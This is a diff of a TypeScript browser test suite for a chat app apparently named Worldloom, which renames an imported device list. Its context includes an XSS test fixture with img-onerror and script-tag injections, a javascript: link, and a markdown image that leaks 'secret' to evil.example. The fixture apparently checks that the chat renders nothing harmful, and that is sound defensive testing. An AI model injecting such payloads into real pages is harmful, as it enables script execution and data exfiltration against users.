@@ -2,7 +2,7 @@ import { createDatabase } from '@worldloom/db'
 import { calls, says, startModelEndpoint } from '@worldloom/server/testing'
 import type { Page } from 'playwright-core'
 import { afterAll, beforeEach, describe, expect, test } from 'vitest'
-import { looks, Visitor } from '../src/visitor.ts'
+import { devices, Visitor } from '../src/visitor.ts'
 import { openWorldloom, startTestWorldloom } from '../src/worldloom.ts'
 
 const endpoint = await startModelEndpoint()
@@ -50,7 +50,7 @@ const bells = 9
 <img src=x onerror="document.title='owned'"><script>document.title='owned'</script>
 ![secret](https://evil.example/?q=secret) [out](https://example.com/a) [bad](javascript:alert(1))`
 
-describe.each(looks)('the chat, %s', (look) => {
+describe.each(devices)('the chat, %s', (look) => {
   test('answers from the world, with links, tables and code, and nothing that could harm', async () => {
     const visitor = await arrive(look)
     const { page } = visitor
@@ -272,7 +272,7 @@ test('conversations are searched, renamed, exported, deleted and brought back', 
 
 const without = await startTestWorldloom()
 
-describe.each(looks)('where no model is configured, %s', (look) => {
+describe.each(devices)('where no model is configured, %s', (look) => {
   test('the page says what to set', async () => {
     const visitor = await Visitor.arrive(browser, without.url, look)
     const { page } = visitor
